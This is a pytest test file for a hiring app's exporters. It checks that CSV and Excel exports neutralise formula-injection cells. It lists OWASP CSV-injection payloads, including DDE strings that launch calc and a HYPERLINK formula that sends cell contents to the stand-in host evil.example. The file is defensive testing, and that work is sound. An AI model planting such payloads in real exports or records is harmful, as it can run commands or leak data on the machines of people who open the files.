"""Formula injection: OWASP's CSV-injection payloads through every export, read back the way a
spreadsheet or a script would (Python's csv module, openpyxl)."""

import csv
import io
import re

import openpyxl
import pytest
from typer.testing import CliRunner

import manage
from services import exports
from services.exports_safety import FORMULA_STARTS, csv_text, neutralise_cell
from tests.conftest import world_fixture

# OWASP "CSV Injection" examples, plus formulas hidden after a CR or LF inside a cell.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
    "=1+2\";=1+2",
    "\t=1+1",
    "\r=1+1",
    "Robert\r+cmd|' /C calc'!A0",
    "ok\r@SUM(1+1)",
    "line one\n=1+2",
    "crlf\r\n-3+3",
    "two\r\r=1",
]


NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def _unsafe(text: str) -> bool:
    """True when a spreadsheet would start a formula in this text: at its start or after any
    CR or LF. A plain number (-1.5) is data; spreadsheets read it as a number."""
    if NUMBER.fullmatch(text):
        return False
    return any(part.startswith(FORMULA_STARTS) for part in re.split(r"[\r\n]", text))


def _check_csv(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not _unsafe(cell), repr(cell)
    # A lone CR left unquoted ends the row for a spreadsheet: every CR and LF of the file is
    # inside a quoted field or part of a CRLF line end.
    outside = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert not re.search(r"\r(?!\n)|(?<!\r)\n", outside), repr(outside)
    return rows


def _check_xlsx(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen += 1
                    assert not _unsafe(cell.value), (sheet.title, cell.coordinate, cell.value)
    return seen


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralised_text_has_no_formula_start_anywhere(payload):
    out = neutralise_cell(payload)
    assert not _unsafe(out)
    assert out.replace("'", "") == payload.replace("'", "")  # only apostrophes were added


def test_csv_text_quotes_a_lone_carriage_return():
    import pandas as pd

    text = csv_text(pd.DataFrame({"a": ["x\ry", "plain"], "n": [-1, 2]}))
    assert '"x\ry"' in text
    assert _check_csv(text)[1:] == [["x\ry", "-1"], ["plain", "2"]]


@world_fixture
def poisoned(session, make):
    """A position whose candidates are named, and whose evidence is written, in payloads.

    The forms and imports now refuse line breaks in names and titles; such rows can still come
    from an older database or a restored backup, so they are written past the schemas here and
    the exports must neutralise them all the same.
    """
    manager = make.user("hiring_manager", name="Hana")
    panel = [make.user(name="Pia"), make.user(name="Paul")]
    position = make.position(manager=manager, title="Backend Engineer")
    position.title = "=Backend\r+Engineer"
    session.add(position)
    for i, payload in enumerate(PAYLOADS):
        cand = make.candidate(position, name=f"Candidate {i}")
        cand.name = f"{payload} {i}"
        session.add(cand)
        session.commit()
        iv = make.interview(cand, panel)
        make.scorecard(iv, panel[0], [2, 3, 4, 5], "yes", evidence=payload)
        make.scorecard(iv, panel[1], [3, 3, 3, 3], "no", evidence=f"ok\r{payload}")
    return {"manager": manager, "position": position}


def test_scores_and_comparison_csv_carry_no_formula(session, make, poisoned):
    viewer = make.viewer(poisoned["manager"])
    rows = _check_csv(exports.scores_csv(session, viewer, poisoned["position"].id))
    assert len(rows) > len(PAYLOADS)
    names = {r[1] for r in rows[1:]}
    assert "Robert\r'+cmd|' /C calc'!A0 8" in names
    rows = _check_csv(exports.comparison_csv(session, viewer, poisoned["position"].id))
    assert len(rows) == len(PAYLOADS) + 1


def test_excel_sheets_carry_no_formula(session, make, poisoned):
    data = exports.scores_xlsx(session, make.viewer(poisoned["manager"]),
                               poisoned["position"].id)
    assert _check_xlsx(data) > len(PAYLOADS)


def test_report_csv_from_the_command_line_carries_no_formula(db_url, poisoned, tmp_path):
    out = tmp_path / "report.csv"
    result = CliRunner().invoke(manage.app, ["report", "--position", "=Backend\r+Engineer",
                                             "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _check_csv(out.read_bytes())
    assert len(rows) == len(PAYLOADS) + 1
    stdout = CliRunner().invoke(manage.app, ["report", "--position", "=Backend\r+Engineer",
                                             "--format", "csv"])
    _check_csv(stdout.stdout_bytes)


def test_export_command_csv_and_xlsx_carry_no_formula(db_url, poisoned, tmp_path):
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"scores.{fmt}"
        result = CliRunner().invoke(manage.app, ["export", "--position", "=Backend\r+Engineer",
                                                 "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output
        if fmt == "csv":
            _check_csv(out.read_bytes())
        else:
            _check_xlsx(out.read_bytes())
